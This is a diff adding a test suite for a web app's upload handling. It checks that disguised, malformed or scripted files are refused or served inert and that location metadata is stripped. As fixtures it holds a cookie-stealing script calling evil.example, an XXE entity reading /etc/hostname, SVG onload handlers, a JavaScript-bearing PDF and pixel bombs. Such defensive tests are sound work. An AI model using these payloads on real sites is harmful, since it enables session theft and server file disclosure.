@@ -1,0 +1,246 @@
+import { describe, expect, it } from 'vitest';
+import { describeRefusal, type UploadKind, type UploadRefusal } from '#contract/uploads.ts';
+import { drainTasks } from '#server/queue/worker.ts';
+import { effort, seed } from '#tests/harness/effort.ts';
+import { canaryWord } from '#tests/harness/privacy/canaries.ts';
+import { useTestApp } from '#tests/harness/test-app.ts';
+import { HTML, PDF, TINY_PNG, zipOf } from './sample-files.ts';
+import { HEIC, makePhoto, makePixelBomb, makeTaggedPhoto, makeVideo, withPngText } from './sample-media.ts';
+import { idOf, type TusClient } from './tus-client.ts';
+import { insertSender, type Member } from './uploads-people.ts';
+import { fetchFile, stateOf } from './uploads-transfers.ts';
+import { useWeb } from './web.ts';
+
+const world = useTestApp();
+const web = useWeb(world);
+
+const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
+const SEED = seed('HOSTILE_SEED');
+const MUTATED = effort('HOSTILE_MUTATED', { gate: 6, proofs: 300 });
+
+type File = readonly [kind: UploadKind, fileName: string, bytes: Buffer];
+type Sender = { person: Member; client: TusClient };
+
+async function start(): Promise<Sender> {
+  const { client, ...person } = await insertSender(world, web);
+  return { person, client };
+}
+
+/** Sends a file, has it prepared, and answers what became of it with all that is served of it. */
+async function send({ person, client }: Sender, [kind, fileName, bytes]: File) {
+  const path = await client.open({ kind, fileName, byteSize: bytes.length });
+  await client.patch(path, 0, bytes);
+  await drainTasks(world.app, { retryAtOnce: true });
+  const upload = await stateOf(person, idOf(path));
+  const { sources = [], downloadUrl } = upload.media ?? {};
+  const urls = [...sources.map(({ url }) => url), ...(downloadUrl === undefined ? [] : [downloadUrl])];
+  return { upload, served: await Promise.all(urls.map((url) => fetchFile(web, url))) };
+}
+
+const INERT = ['image/avif', 'image/webp', 'video/mp4', 'application/pdf'];
+
+type Outcome = Awaited<ReturnType<typeof send>>;
+
+/** Whatever was taken is served as one of four types that run nothing, in a sandbox; a PDF is only saved. */
+function expectInert({ served }: Outcome): void {
+  for (const { status, headers, bytes } of served) {
+    const type = headers.get('content-type') ?? '';
+    expect(status).toBe(200);
+    expect(INERT).toContain(type);
+    expect(headers.get('x-content-type-options')).toBe('nosniff');
+    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+    const saved = type === 'application/pdf' ? 'attachment' : 'inline';
+    expect(headers.get('content-disposition')).toMatch(new RegExp(`^${saved};`));
+    if (type !== 'application/pdf') expect(bytes.includes('<script')).toBe(false);
+  }
+}
+
+const svg = (inside: string, size = 'width="40" height="30"') =>
+  Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" ${size}>${inside}</svg>`);
+
+const GIF = Buffer.from('474946383961010001000000002c00000000010001000002024401003b', 'hex');
+
+describe('a file that is not what it says', () => {
+  const cases: readonly (readonly [string, UploadRefusal, File])[] = [
+    ['HTML as a JPG', 'file_type_refused', ['photo', 'a.jpg', HTML]],
+    ['JavaScript as a PNG', 'file_type_refused', ['photo', 'a.png', Buffer.from('alert(1)//'.repeat(50))]],
+    [
+      'a GIF with an archive behind it',
+      'file_type_refused',
+      ['photo', 'a.jpg', Buffer.concat([GIF, zipOf('a.class')])],
+    ],
+    ['a program as a video', 'file_type_refused', ['video', 'a.mp4', Buffer.from('MZ'.padEnd(400, '\0'))]],
+    ['a PDF as a photo', 'file_type_refused', ['photo', 'a.png', PDF]],
+    ['a photo as a video', 'file_type_refused', ['video', 'a.mp4', TINY_PNG]],
+    ['SVG as a photo', 'file_type_refused', ['photo', 'a.png', svg(SCRIPT)]],
+    ['SVG as a document', 'file_type_refused', ['document', 'a.pdf', svg(SCRIPT)]],
+    ['HTML with a PDF inside', 'file_type_refused', ['document', 'a.pdf', Buffer.concat([HTML, PDF])]],
+    ['an archive as a document', 'file_type_refused', ['document', 'a.pdf', zipOf('a.txt')]],
+    ['the first bytes of a JPG and then HTML', 'file_damaged', ['photo', 'a.jpg', jpegHeadWith(SCRIPT)]],
+    ['a PNG that ends early', 'file_damaged', ['photo', 'a.png', TINY_PNG.subarray(0, 45)]],
+    ['a PDF that ends early', 'file_damaged', ['document', 'a.pdf', PDF.subarray(0, 20)]],
+    [
+      'a video without a movie',
+      'file_damaged',
+      ['video', 'a.mp4', Buffer.from('00000018667479706d70343200000000', 'hex')],
+    ],
+    ['HEIC that ends early', 'file_damaged', ['photo', 'a.heic', HEIC.subarray(0, 300)]],
+    [
+      'a PNG of 50,000 by 50,000 pixels',
+      'picture_too_large',
+      ['photo', 'a.png', makePixelBomb(50_000, 50_000)],
+    ],
+    [
+      'a drawing of 100,000 by 100,000 pixels',
+      'picture_too_large',
+      ['logo', 'a.svg', svg('<rect/>', 'width="100000" height="100000"')],
+    ],
+  ];
+
+  it.each(cases)('is refused: %s', async (_name, refusal, file) => {
+    const { upload, served } = await send(await start(), file);
+    expect(upload).toMatchObject({ status: 'refused', refusal, media: null });
+    expect(served).toEqual([]);
+    expect(await world.app.files.incoming.receivedBytes(upload.id)).toBeNull();
+    const [kind, fileName] = file;
+    expect(describeRefusal(refusal, { kind, fileName })).toContain(fileName);
+  });
+
+  it('is refused when it is longer than five minutes', async () => {
+    const { upload } = await send(await start(), ['video', 'a.mp4', await makeVideo({ seconds: 301 })]);
+    expect(upload).toMatchObject({ status: 'refused', refusal: 'video_too_long' });
+  });
+});
+
+function scriptedPdf(): Buffer {
+  const script = Buffer.from(`1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj ${SCRIPT}`);
+  return Buffer.concat([PDF.subarray(0, 9), script, PDF.subarray(9)]);
+}
+
+function jpegHeadWith(text: string): Buffer {
+  return Buffer.concat([
+    Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
+    Buffer.from(text.repeat(20)),
+  ]);
+}
+
+describe('a file with something else in it', () => {
+  const behind = async (bytes: Promise<Buffer>) =>
+    Buffer.concat([await bytes, Buffer.from(SCRIPT), zipOf('a.class')]);
+  const cases: readonly (readonly [string, () => Promise<File>])[] = [
+    [
+      'a JPG with HTML and an archive behind it',
+      async () => ['photo', 'a.jpg', await behind(makeTaggedPhoto('jpeg', SCRIPT))],
+    ],
+    [
+      'a PNG with a script in a text',
+      async () => ['photo', 'a.png', withPngText(await makePhoto(8, 8), SCRIPT)],
+    ],
+    ['a picture as a document', async () => ['document', 'a.png', await behind(makePhoto(8, 8))]],
+    ['a PDF with a script', () => Promise.resolve(['document', 'a.pdf', scriptedPdf()])],
+    [
+      'a logo with a script and a handler',
+      () =>
+        Promise.resolve(['logo', 'a.svg', svg(`${SCRIPT}<rect width="9" height="9" onload="alert(1)"/>`)]),
+    ],
+  ];
+
+  it.each(cases)('is served as nothing that runs: %s', async (_name, make) => {
+    const outcome = await send(await start(), await make());
+    expect(outcome.upload.status).toBe('ready');
+    expect(outcome.served.length).toBeGreaterThan(0);
+    expectInert(outcome);
+  });
+
+  it('reads no file of ours and no address: a drawing that names them', async () => {
+    const secret = canaryWord();
+    const entity = `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>`;
+    const drawing = Buffer.from(
+      `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
+        `width="40" height="30"><title>${secret}</title><text y="20">&x;</text>` +
+        `<image xlink:href="file:///etc/hostname" width="9" height="9"/>` +
+        `<image xlink:href="${world.app.config.web.publicUrl}/never" width="9" height="9"/></svg>`,
+    );
+    const outcome = await send(await start(), ['logo', 'a.svg', drawing]);
+    expectInert(outcome);
+    for (const { bytes } of outcome.served) expect(bytes.includes(secret)).toBe(false);
+    expect(web.asked.some(({ request }) => request.url.endsWith('/never'))).toBe(false);
+  });
+});
+
+describe('where and when something was taken', () => {
+  const cases: readonly (readonly [string, (canary: string) => Promise<File>])[] = [
+    ['a JPG', async (canary) => ['photo', 'a.jpg', await makeTaggedPhoto('jpeg', canary)]],
+    [
+      'a PNG',
+      async (canary) => ['photo', 'a.png', withPngText(await makeTaggedPhoto('png', canary), canary)],
+    ],
+    ['a WebP', async (canary) => ['photo', 'a.webp', await makeTaggedPhoto('webp', canary)]],
+    ['a HEIC', (canary) => Promise.resolve(['photo', 'a.heic', Buffer.concat([HEIC, xmpBox(canary)])])],
+    [
+      'a picture as a document',
+      async (canary) => ['document', 'a.jpg', await makeTaggedPhoto('jpeg', canary)],
+    ],
+    ['an MP4', async (canary) => ['video', 'a.mp4', await makeVideo({ canary })]],
+    ['a MOV', async (canary) => ['video', 'a.mov', await makeVideo({ format: 'mov', canary })]],
+  ];
+
+  it.each(cases)('is in nothing that is served of %s', async (_name, make) => {
+    const canary = canaryWord();
+    const file = await make(canary);
+    expect(file[2].includes(canary)).toBe(true);
+    const outcome = await send(await start(), file);
+    expect(outcome.upload.status).toBe('ready');
+    expectInert(outcome);
+    for (const { bytes } of outcome.served) {
+      for (const trace of [canary, 'Exif', 'xmpmeta', 'GPSLatitude', '\u00a9xyz', 'location.ISO6709']) {
+        expect(bytes.includes(Buffer.from(trace, 'latin1'))).toBe(false);
+      }
+    }
+    expect(JSON.stringify(outcome.upload.media)).not.toContain(canary);
+  });
+
+  it('does not turn a picture: it is upright afterwards', async () => {
+    const { upload } = await send(await start(), ['photo', 'a.jpg', await makeTaggedPhoto('jpeg', 'x')]);
+    expect(upload.media).toMatchObject({ width: 48, height: 64 });
+  });
+
+  it('is not what a video is known by: its length and its size are', async () => {
+    const { upload } = await send(await start(), [
+      'video',
+      'a.mov',
+      await makeVideo({ format: 'mov', seconds: 4 }),
+    ]);
+    expect(upload.media).toMatchObject({ width: 320, height: 180, durationSeconds: 4 });
+  });
+});
+
+function xmpBox(text: string): Buffer {
+  const content = Buffer.concat([Buffer.from('be7acfcb97a942e89c71999491e3afac', 'hex'), Buffer.from(text)]);
+  const head = Buffer.alloc(8);
+  head.writeUInt32BE(8 + content.length, 0);
+  head.write('uuid', 4, 'latin1');
+  return Buffer.concat([head, content]);
+}
+
+describe(`files with bytes changed at random (${String(MUTATED)})`, () => {
+  it('are taken or refused, and what is taken is served as nothing that runs', async () => {
+    const sender = await start();
+    const photos = [await makeTaggedPhoto('jpeg', 'x'), await makePhoto(16, 16), HEIC, await makeVideo()];
+    const names = ['a.jpg', 'a.png', 'a.heic', 'a.mp4'];
+    let state = SEED;
+    const next = (below: number) => {
+      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
+      return state % below;
+    };
+    for (let round = 0; round < MUTATED; round += 1) {
+      const which = round % photos.length;
+      const bytes = Buffer.from(photos[which] ?? TINY_PNG);
+      for (let change = 0; change < 5; change += 1) bytes[next(bytes.length)] = next(256);
+      const outcome = await send(sender, [which === 3 ? 'video' : 'photo', names[which] ?? '', bytes]);
+      expect(['ready', 'refused']).toContain(outcome.upload.status);
+      expectInert(outcome);
+      await sender.person.call.uploads.remove({ id: outcome.upload.id });
+    }
+  });
+});
